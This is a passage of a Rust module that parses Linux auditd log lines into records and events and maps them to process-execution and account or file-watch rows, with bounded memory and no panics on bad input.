//! auditd's `audit.log`: lines → records → events → rows.
//!
//! auditd writes one record per line, `type=KIND msg=audit(SECONDS.MILLIS:SERIAL): key=value ...`.
//! The kernel gives every record of one event (SYSCALL, EXECVE, CWD, PATH, PROCTITLE, ...) the
//! same `audit(...)` stamp and usually ends the event with an EOE record; userspace messages
//! (USER_LOGIN, ADD_USER, CRED_ACQ, ...) are single records. [`Assembler`] groups lines into
//! [`AuditEvent`]s; [`AuditEvent::execution`] and [`AuditEvent::account_or_watch`] turn an event
//! into a row of the `process` or the `audit` table.
//!
//! Line shapes read:
//! - raw auditd: `type=SYSCALL msg=audit(1604996384.965:93777): arch=c000003e ...`;
//! - `node=<host> type=...` (auditd's `name_format`): the node is kept as the event's host;
//! - the ENRICHED format: after a GS byte (`0x1D`) auditd appends interpreted fields
//!   (`UID="root" AUID="ec2-user" SYSCALL=execve ...`). The raw part is what is parsed; the
//!   interpreted part is kept in [`Record::enriched`]. rsyslog escapes GS as `#035`, which is
//!   read as the separator too;
//! - AUOMS records (`type=AUOMS_EXECVE audit(...): ...`, see [`super::auoms`]): one record per
//!   event, whose free-text `cmdline` and `proctitle` are read by their own rules;
//! - a syslog prefix before `type=` (`Nov 23 10:00:00 host audispd: type=...`), and the
//!   kernel's own `audit: type=1300 audit(...): ...` with a numeric type, which is named here.
//!
//! Values are `"quoted"`, `'single quoted'` (the nested `msg='op=... res=success'` of userspace
//! records, whose fields are flattened into the record), or bare. A bare value of a field auditd
//! escapes (see [`is_encoded_field`]) made only of an even number of hex digits is hex: auditd
//! writes a value that way when it holds a space, a quote, a control byte or non-ASCII bytes.
//! `(null)`, `?` and `(none)` are auditd's spellings of "no value" and become None.
//!
//! Nothing here panics on any input; work per line is linear in its length, and memory is bounded
//! by [`MAX_OPEN_EVENTS`], [`MAX_RECORDS_PER_EVENT`] and [`MAX_OPEN_BYTES`].

use std::collections::VecDeque;

use super::auoms;

/// Longest line read, in bytes. A record is at most 8970 bytes (`MAX_AUDIT_MESSAGE_LENGTH` in
/// libaudit.h; the kernel caps its text at 8560, `AUDIT_MESSAGE_TEXT_MAX`), and the ENRICHED tail
/// and a syslog prefix add far less than as much again, so a line of over 64 KiB (seven times a
/// record) is not auditd's; the bound keeps the cost of one line small.
pub const MAX_LINE_BYTES: usize = 64 * 1024;

/// Events kept open at once (per assembler). auditd writes an event's records together, so only a
/// few events interleave in practice; when a record opens one more, the oldest open event is taken
/// as complete. This bounds memory whatever the input.
pub const MAX_OPEN_EVENTS: usize = 64;

/// How far (ms) a record's time may be from an open event's time before that event is taken as
/// complete. auditd writes an event's records together, within milliseconds; a serial still open
/// after this much log time has lost its EOE (or never had one, as with logs that drop EOE records)
/// and is complete. Compared only between events of the same node, whose clocks agree.
pub const MAX_EVENT_SPAN_MS: i64 = 2000;

/// Records one event may hold. An execve with long arguments is split by the kernel into many
/// EXECVE records (about 7.5 KB of arguments each), so a large `xargs` batch legitimately has
/// hundreds; beyond this the event is closed as it stands (its arguments truncated), a
/// [`Assembled::Malformed`] notes it, and its later records are skipped.
pub const MAX_RECORDS_PER_EVENT: usize = 256;

/// Arguments kept in [`Execution::argv`]. Commands with more are batch jobs (`xargs`,
/// `find -exec +`) whose first thousand arguments already show what ran; the cap bounds a row.
pub const MAX_ARGS: usize = 1024;

/// Estimated bytes (see [`Record::approx_bytes`]) all open events may hold. Lines are bounded
/// by [`MAX_LINE_BYTES`] but a line of thousands of tiny fields costs far more in memory than its
/// length; when a record would pass this budget, the oldest other open events are closed first.
pub const MAX_OPEN_BYTES: usize = 32 * 1024 * 1024;

/// `(uid_t)-1`: the value of an auid or session that was never set (a daemon, not a login).
const UNSET_ID: i64 = 4_294_967_295;

/// The ENRICHED format's separator between raw and interpreted fields (ASCII GS).
const ENRICHED_SEPARATOR: u8 = 0x1d;

/// How rsyslog writes the GS separator when it escapes control characters.
const ESCAPED_SEPARATOR: &[u8] = b"#035";

/// Record kinds read as account events by [`AuditEvent::account_or_watch`].
pub const ACCOUNT_KINDS: &[&str] = &[
    "USER_LOGIN",
    "USER_AUTH",
    "ADD_USER",
    "ADD_GROUP",
    "DEL_USER",
    "DEL_GROUP",
    "USER_CHAUTHTOK",
    "CRED_ACQ",
    "USER_MGMT",
    "GRP_MGMT",
];

/// Numeric record types as the kernel prints them (`audit: type=1300 audit(...)`) when no auditd
/// reads them, named as auditd names them (libaudit.h, linux/audit.h).
const TYPE_NAMES: &[(&str, &str)] = &[
    ("1005", "USER"),
    ("1006", "LOGIN"),
    ("1100", "USER_AUTH"),
    ("1101", "USER_ACCT"),
    ("1102", "USER_MGMT"),
    ("1103", "CRED_ACQ"),
    ("1104", "CRED_DISP"),
    ("1105", "USER_START"),
    ("1106", "USER_END"),
    ("1107", "USER_AVC"),
    ("1108", "USER_CHAUTHTOK"),
    ("1109", "USER_ERR"),
    ("1110", "CRED_REFR"),
    ("1111", "USYS_CONFIG"),
    ("1112", "USER_LOGIN"),
    ("1113", "USER_LOGOUT"),
    ("1114", "ADD_USER"),
    ("1115", "DEL_USER"),
    ("1116", "ADD_GROUP"),
    ("1117", "DEL_GROUP"),
    ("1123", "USER_CMD"),
    ("1124", "USER_TTY"),
    ("1130", "SERVICE_START"),
    ("1131", "SERVICE_STOP"),
    ("1132", "GRP_MGMT"),
    ("1133", "GRP_CHAUTHTOK"),
    ("1300", "SYSCALL"),
    ("1302", "PATH"),
    ("1305", "CONFIG_CHANGE"),
    ("1306", "SOCKADDR"),
    ("1307", "CWD"),
    ("1309", "EXECVE"),
    ("1320", "EOE"),
    ("1327", "PROCTITLE"),
    ("1400", "AVC"),
];

/// `(arch, syscall)` pairs that execute a program: execve and execveat on x86_64, aarch64, i386.
const EXEC_SYSCALLS: &[(&str, i64)] = &[
    ("c000003e", 59),
    ("c000003e", 322),
    ("c00000b7", 221),
    ("c00000b7", 281),
    ("40000003", 11),
    ("40000003", 358),
];

/// The x86_64 audit arch, assumed when a SYSCALL record has no `arch` (EC2 is mostly x86_64).
const DEFAULT_ARCH: &str = "c000003e";

/// One auditd record: one line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Record {
    /// The record type: `SYSCALL`, `EXECVE`, `PATH`, `USER_LOGIN`, ... (numeric kernel types are
    /// named; unknown ones are kept as written).
    pub kind: String,
    /// The raw fields in order, values decoded (hex undone, quotes removed); None for `(null)`,
    /// `?` and `(none)`. The fields of a userspace record's nested `msg='...'` follow the outer
    /// ones.
    pub fields: Vec<(String, Option<String>)>,
    /// The line it came from (1-based).
    pub line: u64,
    /// The ENRICHED format's interpreted fields (`UID` → `root`), empty for raw logs.
    pub enriched: Vec<(String, String)>,
}

impl Record {
    /// The value of the first field named `name`; None when absent or without value.
    pub fn get(&self, name: &str) -> Option<&str> {
        self.fields
            .iter()
            .find(|(key, _)| key == name)
            .and_then(|(_, value)| value.as_deref())
    }

    /// The value of the interpreted (ENRICHED) field named `name`.
    pub fn interpreted(&self, name: &str) -> Option<&str> {
        self.enriched
            .iter()
            .find(|(key, _)| key == name)
            .map(|(_, value)| value.as_str())
    }

    /// An estimate of the heap and inline bytes the record holds, for [`MAX_OPEN_BYTES`]: the
    /// text plus the size of each field's slot.
    pub fn approx_bytes(&self) -> usize {
        let slot = std::mem::size_of::<(String, Option<String>)>();
        let fields: usize = self
            .fields
            .iter()
            .map(|(key, value)| slot + key.len() + value.as_ref().map_or(0, String::len))
            .sum();
        let enriched: usize = self
            .enriched
            .iter()
            .map(|(key, value)| slot + key.len() + value.len())
            .sum();
        std::mem::size_of::<Record>() + self.kind.len() + fields + enriched
    }
}

/// The records of one event: those sharing a `msg=audit(TIME:SERIAL)` stamp (and node).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AuditEvent {
    /// The stamp's time, epoch ms.
    pub time_ms: i64,
    /// The stamp's serial.
    pub serial: u64,
    /// The line of the event's first record.
    pub line: u64,
    /// The `node=` prefix, when the log has one.
    pub node: Option<String>,
    /// The records in arrival order (without the EOE that ended it).
    pub records: Vec<Record>,
}

/// What [`Assembler::push`] and [`Assembler::finish`] give back.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Assembled {
    /// A complete event.
    Event(AuditEvent),
    /// A line that is not an auditd record, or an event cut short; the caller counts and reports
    /// these with the file name.
    Malformed {
        /// The line (1-based).
        line: u64,
        /// Why, for the report.
        reason: String,
    },
}

/// A process execution: one row of the `process` table.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Execution {
    /// The event's time, epoch ms.
    pub time_ms: i64,
    /// The event's serial.
    pub serial: u64,
    /// The line of the event's first record.
    pub line: u64,
    /// The `node=` prefix.
    pub node: Option<String>,
    /// The new process.
    pub pid: Option<i64>,
    /// Its parent.
    pub ppid: Option<i64>,
    /// Real uid.
    pub uid: Option<i64>,
    /// Login uid: who logged in, kept across sudo/su; None when unset (4294967295).
    pub auid: Option<i64>,
    /// Effective uid.
    pub euid: Option<i64>,
    /// The uid's name, from the ENRICHED format's `UID`.
    pub uid_name: Option<String>,
    /// The auid's name, from the ENRICHED format's `AUID` (None when `unset`).
    pub auid_name: Option<String>,
    /// The executable run.
    pub exe: Option<String>,
    /// The command name (first 15 bytes of the executable's name, as the kernel keeps it).
    pub comm: Option<String>,
    /// The arguments: from the EXECVE records (split arguments `aN[i]` joined), or, without
    /// EXECVE, from PROCTITLE (NUL-separated; the kernel keeps only its first 128 bytes). At most
    /// [`MAX_ARGS`].
    pub argv: Vec<String>,
    /// The command line as the log wrote it (AUOMS's `cmdline`, or the `proctitle` of a failed
    /// execve); None for auditd, whose rows join `argv` with spaces.
    pub command_line: Option<String>,
    /// The working directory (CWD record, or AUOMS's `cwd`).
    pub cwd: Option<String>,
    /// The audit rule's key; several keys are joined with `,`.
    pub key: Option<String>,
    /// Whether the execve succeeded.
    pub success: Option<bool>,
    /// The terminal (`pts0`); None without one.
    pub tty: Option<String>,
    /// The login session; None when unset.
    pub session: Option<i64>,
}

/// An account event or a file-watch hit: one row of the `audit` table.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AccountEvent {
    /// The event's time, epoch ms.
    pub time_ms: i64,
    /// The event's serial.
    pub serial: u64,
    /// The line of the event's first record.
    pub line: u64,
    /// The `node=` prefix.
    pub node: Option<String>,
    /// One of [`ACCOUNT_KINDS`], or `FILE_WATCH`.
    pub kind: String,
    /// The operation (`op=`: `login`, `PAM:authentication`, `add-user`, ...).
    pub op: Option<String>,
    /// The account acted on: `acct=`, else `id=`.
    pub account: Option<String>,
    /// The program that wrote the record (`/usr/sbin/sshd`) or made the syscall.
    pub exe: Option<String>,
    /// The remote host name, as the program saw it.
    pub hostname: Option<String>,
    /// The remote address.
    pub addr: Option<String>,
    /// The terminal (`ssh`, `pts/0`).
    pub terminal: Option<String>,
    /// `success` or `failed` (`res=`; the kernel's `1`/`0` read as such).
    pub result: Option<String>,
    /// The uid of the process that wrote the record.
    pub uid: Option<i64>,
    /// Its login uid; None when unset.
    pub auid: Option<i64>,
    /// Its pid.
    pub pid: Option<i64>,
    /// The ENRICHED name of `uid`.
    pub uid_name: Option<String>,
    /// The ENRICHED name of `auid`.
    pub auid_name: Option<String>,
    /// File watch: the rule's key.
    pub key: Option<String>,
    /// File watch: the file (the first PATH named with nametype NORMAL or CREATE, else DELETE;
    /// a relative name is joined to the CWD).
    pub path: Option<String>,
    /// File watch: the syscall number.
    pub syscall: Option<i64>,
    /// Whether it succeeded (`res=` or the syscall's `success=`).
    pub success: Option<bool>,
}

impl AuditEvent {
    /// The first record of `kind`.
    pub fn record(&self, kind: &str) -> Option<&Record> {
        self.records.iter().find(|record| record.kind == kind)
    }

    /// An interpreted (ENRICHED) field, from the SYSCALL record first, else from any record.
    fn interpreted(&self, name: &str) -> Option<String> {
        self.record("SYSCALL")
            .and_then(|record| record.interpreted(name))
            .or_else(|| {
                self.records
                    .iter()
                    .find_map(|record| record.interpreted(name))
            })
            .map(str::to_string)
    }

    /// Whether the event runs a program: an EXECVE record, or an execve/execveat SYSCALL.
    fn is_execution(&self) -> bool {
        self.records.iter().any(|record| record.kind == "EXECVE")
            || self.record("SYSCALL").is_some_and(is_exec_syscall)
    }

    /// A process execution (an execve or execveat SYSCALL, or an EXECVE record present): one row
    /// for the `process` table.
    pub fn execution(&self) -> Option<Execution> {
        if let Some(record) = self.record(auoms::EXECVE) {
            return Some(auoms::execution(self, record));
        }
        if !self.is_execution() {
            return None;
        }
        let syscall = self.record("SYSCALL");
        let text = |name: &str| {
            syscall
                .and_then(|record| record.get(name))
                .map(str::to_string)
        };
        let number = |name: &str| syscall.and_then(|record| record.get(name)).and_then(int);
        let mut argv = execve_args(&self.records);
        if argv.is_empty()
            && let Some(title) = self.record("PROCTITLE").and_then(|r| r.get("proctitle"))
        {
            argv = title
                .split('\0')
                .filter(|arg| !arg.is_empty())
                .take(MAX_ARGS)
                .map(str::to_string)
                .collect();
        }
        Some(Execution {
            time_ms: self.time_ms,
            serial: self.serial,
            line: self.line,
            node: self.node.clone(),
            pid: number("pid"),
            ppid: number("ppid"),
            uid: number("uid"),
            auid: number("auid").filter(|&id| is_set(id)),
            euid: number("euid"),
            uid_name: self.interpreted("UID"),
            auid_name: self.interpreted("AUID").filter(|name| name != "unset"),
            exe: text("exe"),
            comm: text("comm"),
            argv,
            command_line: None,
            cwd: self
                .record("CWD")
                .and_then(|record| record.get("cwd"))
                .map(str::to_string),
            key: text("key").map(|key| key.replace('\u{1}', ",")),
            success: syscall
                .and_then(|record| record.get("success"))
                .and_then(yes_no),
            tty: text("tty"),
            session: number("ses").filter(|&id| is_set(id)),
        })
    }

    /// A user/account event (a record of [`ACCOUNT_KINDS`]) or a file-watch hit (a SYSCALL with
    /// a key, not an execution, whose PATH names a file): one row for the `audit` table.
    /// Executions matched by a keyed rule are rows of the `process` table, key included.
    pub fn account_or_watch(&self) -> Option<AccountEvent> {
        if let Some(record) = self
            .records
            .iter()
            .find(|record| ACCOUNT_KINDS.contains(&record.kind.as_str()))
        {
            let text = |name: &str| record.get(name).map(str::to_string);
            let result = record.get("res").map(result_word);
            return Some(AccountEvent {
                time_ms: self.time_ms,
                serial: self.serial,
                line: self.line,
                node: self.node.clone(),
                kind: record.kind.clone(),
                op: text("op"),
                account: text("acct").or_else(|| text("id")),
                exe: text("exe"),
                hostname: text("hostname"),
                addr: text("addr"),
                terminal: text("terminal"),
                success: result.as_deref().and_then(yes_no),
                result,
                uid: record.get("uid").and_then(int),
                auid: record.get("auid").and_then(int).filter(|&id| is_set(id)),
                pid: record.get("pid").and_then(int),
                uid_name: record.interpreted("UID").map(str::to_string),
                auid_name: record
                    .interpreted("AUID")
                    .filter(|name| *name != "unset")
                    .map(str::to_string),
                key: None,
                path: None,
                syscall: None,
            });
        }
        let syscall = self.record("SYSCALL")?;
        let key = syscall.get("key")?;
        if self.is_execution() {
            return None;
        }
        let path = self.watched_path()?;
        let text = |name: &str| syscall.get(name).map(str::to_string);
        Some(AccountEvent {
            time_ms: self.time_ms,
            serial: self.serial,
            line: self.line,
            node: self.node.clone(),
            kind: "FILE_WATCH".to_string(),
            op: None,
            account: None,
            exe: text("exe"),
            hostname: None,
            addr: None,
            terminal: None,
            result: None,
            uid: syscall.get("uid").and_then(int),
            auid: syscall.get("auid").and_then(int).filter(|&id| is_set(id)),
            pid: syscall.get("pid").and_then(int),
            uid_name: self.interpreted("UID"),
            auid_name: self.interpreted("AUID").filter(|name| name != "unset"),
            key: Some(key.replace('\u{1}', ",")),
            path: Some(path),
            syscall: syscall.get("syscall").and_then(int),
            success: syscall.get("success").and_then(yes_no),
        })
    }

    /// The file a watch fired on: the first PATH named NORMAL or CREATE (the file itself, not
    /// its PARENT directory), else the first named DELETE; relative names joined to the CWD.
    fn watched_path(&self) -> Option<String> {
        let named = |types: &[&str]| {
            self.records.iter().find_map(|record| {
                let nametype = record.get("nametype")?;
                if record.kind == "PATH" && types.contains(&nametype) {
                    record.get("name")
                } else {
                    None
                }
            })
        };
        let name = named(&["NORMAL", "CREATE"]).or_else(|| named(&["DELETE"]))?;
        if name.starts_with('/') {
            return Some(name.to_string());
        }
        match self.record("CWD").and_then(|record| record.get("cwd")) {
            Some(cwd) => {
                let name = name.strip_prefix("./").unwrap_or(name);
                Some(format!("{}/{name}", cwd.trim_end_matches('/')))
            }
            None => Some(name.to_string()),
        }
    }
}

/// Whether a SYSCALL record is an execve/execveat: by arch and number, or by the ENRICHED name.
fn is_exec_syscall(record: &Record) -> bool {
    if matches!(record.interpreted("SYSCALL"), Some("execve" | "execveat")) {
        return true;
    }
    let Some(number) = record.get("syscall").and_then(int) else {
        return false;
    };
    let arch = record.get("arch").unwrap_or(DEFAULT_ARCH);
    EXEC_SYSCALLS
        .iter()
        .any(|&(a, n)| n == number && a.eq_ignore_ascii_case(arch))
}

/// The arguments of the EXECVE records, in order: `aN` whole, `aN[i]` pieces appended (the
/// kernel splits an argument longer than it prints at once and writes the pieces in order, across
/// records if need be). Missing indexes stay empty. A hex piece ending inside a multibyte
/// character decodes to U+FFFD on both sides of the cut: each piece is decoded on its own.
fn execve_args(records: &[Record]) -> Vec<String> {
    let mut args: Vec<String> = Vec::new();
    for record in records.iter().filter(|record| record.kind == "EXECVE") {
        for (key, value) in &record.fields {
            let Some((index, piece)) = arg_name(key) else {
                continue;
            };
            if index >= MAX_ARGS {
                continue;
            }
            if args.len() <= index {
                args.resize(index + 1, String::new());
            }
            let value = value.as_deref().unwrap_or("");
            if let Some(arg) = args.get_mut(index) {
                if piece {
                    arg.push_str(value);
                } else {
                    *arg = value.to_string();
                }
            }
        }
    }
    args
}

/// `aN` → (N, false); `aN[i]` → (N, true); anything else (`argc`, `a1_len`) → None.
fn arg_name(key: &str) -> Option<(usize, bool)> {
    let rest = key.strip_prefix('a')?;
    let (number, piece) = match rest.split_once('[') {
        Some((number, index)) => {
            let index = index.strip_suffix(']')?;
            if index.is_empty() || !index.bytes().all(|b| b.is_ascii_digit()) {
                return None;
            }
            (number, true)
        }
        None => (rest, false),
    };
    if number.is_empty() || !number.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    // An index too large for usize is past MAX_ARGS anyway.
    Some((number.parse().unwrap_or(usize::MAX), piece))
}

/// A decimal integer (auditd writes ids, pids and syscall numbers in decimal).
pub(super) fn int(text: &str) -> Option<i64> {
    let digits = text.strip_prefix('-').unwrap_or(text);
    if digits.is_empty() || !digits.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    text.parse().ok()
}

/// False for the unset auid/session: 4294967295, or -1 as some writers print it.
pub(super) fn is_set(id: i64) -> bool {
    id != UNSET_ID && id != -1
}

/// `yes`/`success`/`1` → true, `no`/`failed`/`0` → false.
pub(super) fn yes_no(text: &str) -> Option<bool> {
    match text {
        "yes" | "success" | "1" => Some(true),
        "no" | "failed" | "fail" | "0" => Some(false),
        _ => None,
    }
}

/// `res=` as `success`/`failed` (the kernel writes `1`/`0`); other words as written.
fn result_word(text: &str) -> String {
    match yes_no(text) {
        Some(true) => "success".to_string(),
        Some(false) => "failed".to_string(),
        None => text.to_string(),
    }
}

/// Record kinds that are a whole event on their own: messages from userspace programs (PAM,
/// shadow-utils, auditd itself), which the kernel stamps once and never follows with an EOE.
fn is_single_record(kind: &str) -> bool {
    const PREFIXES: &[&str] = &[
        "USER_",
        "CRED_",
        "GRP_",
        "ACCT_",
        "DAEMON_",
        "SERVICE_",
        "SYSTEM_",
        "ANOM_LOGIN_",
        "VIRT_",
        "CRYPTO_",
        "ROLE_",
        "RESP_",
    ];
    const KINDS: &[&str] = &[
        "USER",
        "ADD_USER",
        "DEL_USER",
        "ADD_GROUP",
        "DEL_GROUP",
        "CHUSER_ID",
        "CHGRP_ID",
        "USYS_CONFIG",
        "TRUSTED_APP",
        "SOFTWARE_UPDATE",
    ];
    if kind.starts_with(auoms::KIND_PREFIX) {
        // auoms assembles the kernel's records itself and writes one record per event.
        return true;
    }
    KINDS.contains(&kind) || PREFIXES.iter().any(|prefix| kind.starts_with(prefix))
}

/// Whether auditd may write `key` of a `kind` record hex-encoded (auparse's escaped fields, and
/// the arguments of EXECVE). Other fields are never decoded: `auid=1000` or SYSCALL's
/// `a0=558e25052c70` are hex-looking numbers, not encoded text.
pub fn is_encoded_field(kind: &str, key: &str) -> bool {
    const ENCODED: &[&str] = &[
        "proctitle",
        "name",
        "cwd",
        "comm",
        "exe",
        "cmd",
        "acct",
        "data",
        "path",
        "file",
        "watch",
        "dir",
        "key",
        "vm",
        "device",
        "cgroup",
        "ocomm",
        "grp",
        "new_group",
        "invalid_context",
        "sw",
        "root_dir",
        "old-chardev",
        "new-chardev",
        "old-disk",
        "new-disk",
        "old-fs",
        "new-fs",
        "old-net",
        "new-net",
        "old-rng",
        "new-rng",
    ];
    ENCODED.contains(&key) || (kind == "EXECVE" && arg_name(key).is_some())
}

/// An even number of hex digits, at least two.
fn is_hex(text: &str) -> bool {
    !text.is_empty() && text.len().is_multiple_of(2) && text.bytes().all(|b| b.is_ascii_hexdigit())
}

/// Hex to text, lossily (invalid UTF-8 becomes U+FFFD; NUL bytes are kept).
fn decode_hex(text: &str) -> String {
    let nibble = |b: u8| match b {
        b'0'..=b'9' => b - b'0',
        b'a'..=b'f' => b - b'a' + 10,
        b'A'..=b'F' => b - b'A' + 10,
        _ => 0,
    };
    let bytes: Vec<u8> = text
        .as_bytes()
        .chunks_exact(2)
        .map(|pair| match pair {
            [high, low] => (nibble(*high) << 4) | nibble(*low),
            _ => 0,
        })
        .collect();
    String::from_utf8_lossy(&bytes).into_owned()
}

/// A value as written.
#[derive(Debug, Clone, Copy)]
pub(super) enum Raw<'a> {
    /// Unquoted, up to the next blank.
    Bare(&'a str),
    /// Inside `"..."`: auditd hex-encodes any value holding a quote, so the next `"` ends it.
    Double(&'a str),
    /// Inside `'...'`: the nested `msg` of userspace records.
    Single(&'a str),
}

fn is_blank(b: u8) -> bool {
    b == b' ' || b == b'\t'
}

/// The length of the ENRICHED separator at `at`, if there is one: GS, or rsyslog's `#035`
/// followed by an interpreted field's upper-case name.
fn separator_at(bytes: &[u8], at: usize) -> Option<usize> {
    match *bytes.get(at)? {
        ENRICHED_SEPARATOR => Some(1),
        b'#' if bytes.get(at..)?.starts_with(ESCAPED_SEPARATOR)
            && bytes
                .get(at + ESCAPED_SEPARATOR.len())
                .is_some_and(u8::is_ascii_uppercase) =>
        {
            Some(ESCAPED_SEPARATOR.len())
        }
        _ => None,
    }
}

/// Splits `text` into `key=value` pairs in one pass. Words without `=` (`avc:`, `denied`) are
/// skipped. With `stop_at_separator`, stops at the ENRICHED separator (outside quotes) and also
/// returns the text after it.
pub(super) fn pairs(text: &str, stop_at_separator: bool) -> (Vec<(&str, Raw<'_>)>, Option<&str>) {
    let bytes = text.as_bytes();
    let separator = |at: usize| {
        if stop_at_separator {
            separator_at(bytes, at)
        } else {
            None
        }
    };
    // Every index where text is sliced is 0, the length, or next to an ASCII byte (blank, `=`,
    // a quote, the separator), hence a char boundary; `get` keeps that from ever panicking.
    let slice = |from: usize, to: usize| text.get(from..to).unwrap_or("");
    let mut out = Vec::new();
    let mut at = 0;
    loop {
        while bytes.get(at).copied().is_some_and(is_blank) {
            at += 1;
        }
        if at >= bytes.len() {
            return (out, None);
        }
        if let Some(length) = separator(at) {
            return (out, text.get(at + length..));
        }
        let start = at;
        while let Some(&b) = bytes.get(at) {
            if b == b'=' || is_blank(b) || separator(at).is_some() {
                break;
            }
            at += 1;
        }
        if bytes.get(at) != Some(&b'=') {
            continue;
        }
        let key = slice(start, at);
        at += 1;
        let value = match bytes.get(at) {
            Some(&quote @ (b'"' | b'\'')) => {
                let from = at + 1;
                let to = bytes
                    .get(from..)
                    .and_then(|rest| rest.iter().position(|&b| b == quote))
                    .map_or(bytes.len(), |offset| from + offset);
                at = to + 1;
                if quote == b'"' {
                    Raw::Double(slice(from, to))
                } else {
                    Raw::Single(slice(from, to))
                }
            }
            _ => {
                let from = at;
                while let Some(&b) = bytes.get(at) {
                    if is_blank(b) || separator(at).is_some() {
                        break;
                    }
                    at += 1;
                }
                Raw::Bare(slice(from, at))
            }
        };
        if !key.is_empty() {
            out.push((key, value));
        }
    }
}

/// A raw value decoded for a `kind` record's `key`.
pub(super) fn decode(kind: &str, key: &str, raw: Raw<'_>) -> Option<String> {
    match raw {
        Raw::Double(text) | Raw::Single(text) => Some(text.to_string()),
        Raw::Bare("(null)" | "?" | "(none)") => None,
        Raw::Bare(text) if is_encoded_field(kind, key) && is_hex(text) => Some(decode_hex(text)),
        Raw::Bare(text) => Some(text.to_string()),
    }
}

/// [`Record::fields`].
type DecodedFields = Vec<(String, Option<String>)>;

/// [`Record::enriched`].
type InterpretedFields = Vec<(String, String)>;

/// The fields of a record's body, the nested `msg='...'` flattened in, and its ENRICHED fields.
fn fields(kind: &str, body: &str) -> (DecodedFields, InterpretedFields) {
    let (raw, tail) = pairs(body, true);
    let mut fields = Vec::with_capacity(raw.len());
    for (key, value) in raw {
        match value {
            Raw::Single(inner) if key == "msg" => {
                let (nested, _) = pairs(inner, false);
                fields.extend(
                    nested
                        .into_iter()
                        .map(|(key, value)| (key.to_string(), decode(kind, key, value))),
                );
            }
            _ => fields.push((key.to_string(), decode(kind, key, value))),
        }
    }
    let enriched = tail
        .map(|tail| {
            pairs(tail, false)
                .0
                .into_iter()
                .map(|(key, value)| {
                    let (Raw::Bare(text) | Raw::Double(text) | Raw::Single(text)) = value;
                    (key.to_string(), text.to_string())
                })
                .collect()
        })
        .unwrap_or_default();
    (fields, enriched)
}

/// One parsed line.
struct Parsed {
    node: Option<String>,
    time_ms: i64,
    serial: u64,
    record: Record,
}

/// The first `type=` at the line's start or after a blank: where the record begins.
fn record_start(line: &str) -> Option<usize> {
    let mut from = 0;
    loop {
        let at = from + line.get(from..)?.find("type=")?;
        let starts_word = at == 0
            || line
                .as_bytes()
                .get(at - 1)
                .is_some_and(|b| b.is_ascii_whitespace());
        if starts_word {
            return Some(at);
        }
        from = at + "type=".len();
    }
}

/// `SECONDS.MILLIS:SERIAL` → (epoch ms, serial).
fn stamp(text: &str) -> Option<(i64, u64)> {
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    let (time, serial) = text.split_once(':')?;
    let (seconds, fraction) = time.split_once('.').unwrap_or((time, "0"));
    if !digits(serial) || !digits(seconds) || !digits(fraction) {
        return None;
    }
    // auditd writes three digits of milliseconds; fewer are tenths or hundredths, more are cut.
    let millis = fraction
        .bytes()
        .chain(std::iter::repeat(b'0'))
        .take(3)
        .fold(0i64, |ms, b| ms * 10 + i64::from(b - b'0'));
    let time_ms = seconds
        .parse::<i64>()
        .ok()?
        .checked_mul(1000)?
        .checked_add(millis)?;
    Some((time_ms, serial.parse().ok()?))
}

/// One line → a record with its stamp; Ok(None) for a blank line; Err(reason) when the line is
/// not an auditd record.
fn parse_line(line_no: u64, line: &str) -> Result<Option<Parsed>, String> {
    let line = line.trim_end_matches(['\r', '\n']);
    if line.trim().is_empty() {
        return Ok(None);
    }
    if line.len() > MAX_LINE_BYTES {
        return Err(format!(
            "line of {} bytes, longer than any auditd record ({MAX_LINE_BYTES} bytes at most)",
            line.len()
        ));
    }
    let start = record_start(line).ok_or("not an auditd record: no `type=`")?;
    let node = line
        .get(..start)
        .unwrap_or("")
        .split_whitespace()
        .rev()
        .find_map(|word| word.strip_prefix("node="))
        .filter(|name| !name.is_empty())
        .map(str::to_string);
    let rest = line.get(start + "type=".len()..).unwrap_or("");
    let kind_end = rest
        .find(|c: char| c.is_ascii_whitespace())
        .unwrap_or(rest.len());
    let kind = rest.get(..kind_end).unwrap_or("");
    let valid_kind = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'[' | b']');
    if kind.is_empty() || !kind.bytes().all(valid_kind) {
        return Err(format!(
            "not an auditd record: bad type `{}`",
            shorten(kind)
        ));
    }
    let after = rest.get(kind_end..).unwrap_or("").trim_start();
    let opened = after
        .strip_prefix("msg=audit(")
        .or_else(|| after.strip_prefix("audit("))
        .ok_or("not an auditd record: no `msg=audit(` after the type")?;
    let close = opened
        .find(')')
        .ok_or("not an auditd record: `msg=audit(` is not closed")?;
    let stamp_text = opened.get(..close).unwrap_or("");
    let (time_ms, serial) = stamp(stamp_text).ok_or_else(|| {
        format!(
            "bad auditd stamp `audit({})`: expected SECONDS.MILLIS:SERIAL",
            shorten(stamp_text)
        )
    })?;
    let body = opened.get(close + 1..).unwrap_or("");
    let body = body.strip_prefix(':').unwrap_or(body);
    let kind = TYPE_NAMES
        .iter()
        .find(|(number, _)| *number == kind)
        .map_or(kind, |&(_, name)| name);
    let (fields, enriched) = if kind.starts_with(auoms::KIND_PREFIX) {
        (auoms::fields(kind, body), Vec::new())
    } else {
        fields(kind, body)
    };
    Ok(Some(Parsed {
        node,
        time_ms,
        serial,
        record: Record {
            kind: kind.to_string(),
            fields,
            line: line_no,
            enriched,
        },
    }))
}

/// At most 40 characters of `text`, for messages about bad input.
fn shorten(text: &str) -> String {
    const SHOWN: usize = 40;
    match text.char_indices().nth(SHOWN) {
        Some((cut, _)) => format!("{}…", text.get(..cut).unwrap_or("")),
        None => text.to_string(),
    }
}

/// Which event a record belongs to.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Stamp {
    node: Option<String>,
    time_ms: i64,
    serial: u64,
}

impl Stamp {
    fn of(&self, event: &AuditEvent) -> bool {
        event.serial == self.serial && event.time_ms == self.time_ms && event.node == self.node
    }
}

/// An event still taking records, with its estimated size.
#[derive(Debug)]
struct OpenEvent {
    event: AuditEvent,
    bytes: usize,
}

/// Assembles auditd records into events by (node, timestamp, serial).
///
/// An event is complete when its EOE arrives; when a record more than [`MAX_EVENT_SPAN_MS`] away
